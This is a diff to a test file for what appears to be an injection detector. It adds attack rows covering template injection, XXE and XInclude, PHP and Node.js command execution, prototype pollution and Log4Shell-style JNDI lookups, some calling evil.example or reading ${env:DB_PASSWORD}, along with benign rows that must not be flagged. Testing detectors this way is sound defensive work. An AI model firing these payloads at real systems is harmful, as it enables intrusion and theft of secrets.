@@ -113,6 +113,12 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['backticks of Ruby', '<%= `id` %>'],
     ['an object of Smarty', '{$smarty.version}'],
     ['Perl', "@{[system 'id']}"],
+    ['FreeMarker in brackets', '[=6*8]'],
+    ['a function of Go', '{{ urlquery "x" }}'],
+    ['from the request to the server', '{{ request.environ }}'],
+    ['a text bound in Handlebars', '{{#with "a" as |b|}}'],
+    ['a file of Velocity', '#evaluate("x")'],
+    ['an assignment of OGNL', '%{(#q=9)}'],
   ],
   XmlEntities: [
     ['an external entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///srv/x">]>'],
@@ -121,6 +127,9 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['an external type', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'],
     ['UTF-7', '+ADwAIQ-ENTITY a SYSTEM +ACI-x+ACI-+AD4-'],
     ['a style sheet from outside', '<xsl:include href="http://evil.example/x.xsl"/>'],
+    ['a declaration', '<!ATTLIST a b CDATA "c">'],
+    ['an inner part of a type', '<!DOCTYPE a ['],
+    ['an inclusion, cut', '<xi:include parse="text"'],
     ['XInclude', '<a xmlns:xi="http://www.w3.org/2001/XInclude"/>'],
   ],
   NoSql: [
@@ -164,6 +173,10 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a function of an extension, cut', 'pcntl_signal ('],
     ['a method that PHP calls', 'App\\Job::__invoke'],
     ['a function to be called', 'call_user_func'],
+    ['a file that is removed', "unlink('x');"],
+    ['a command in backticks', 'echo `id`;'],
+    ['a variable of its own', '${_SERVER}'],
+    ['joined to a text', '".phpinfo()."'],
     ['a command in a pair', 'q=passthru(id)'],
   ],
   Java: [
@@ -186,6 +199,12 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['the main module', "process.mainModule.require('fs')"],
     ['a module that runs commands', "require('child_process').exec('id')"],
     ['the constructor of functions', "a.constructor.constructor('return 1')()"],
+    ['a file that is read', "fs.readFile('/srv/x')"],
+    ['a command that is run', "spawnSync('id')"],
+    ['the process tells of itself', 'process.env.HOME'],
+    ['a module alone', "require('worker_threads')"],
+    ['the prototype in a document', '{"__proto__":{"admin":true}}'],
+    ['the prototype of all objects', 'Object.prototype.admin'],
     ['a loop without an end', 'while(true);'],
   ],
   LogLookup: [
@@ -193,6 +212,8 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a lookup of the machine', '${sys:user.name}'],
     ['its name in lower-case lookups', '${${lower:J}ndi:ldap://evil.example/a}'],
     ['its letters as defaults', '${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}'],
+    ['a secret of the environment', '${env:DB_PASSWORD}'],
+    ['a lookup of the cluster', '${k8s:podName}'],
     ['cut off', '${jndi:rmi://evil.example'],
   ],
   HeaderLines: [
@@ -277,6 +298,9 @@ const benign: readonly Row[] = [
   ['a date', '2026-06-10T08:20:30.123Z'],
   ['a user agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'header'],
   ['what a browser accepts', 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8', 'header'],
+  ['a variable of the environment', 'stage: ${env:STAGE}'],
+  ['a member of a request, in a template', 'Hello {{ request.name }}'],
+  ['prose with code in it', 'Return `true` to print `x`'],
   ['a filter of a list', 'author__name__icontains', 'name'],
   ['a column of a neighbour', 'created__date__gte', 'name'],
   ['a name of GraphQL', '__typename', 'name'],
@@ -308,5 +332,5 @@ test('base64 hides nothing, whether in a value or in the last segment of a path'
 test('every detector has rows, and every row ran', () => {
   assert.deepEqual(Object.keys(attacks).sort(), detectors.map(({ name }) => name).sort())
   const rows = Object.values(attacks).flat().length
-  assert.deepEqual([rows, benign.length], [165, 72])
+  assert.deepEqual([rows, benign.length], [186, 75])
 })
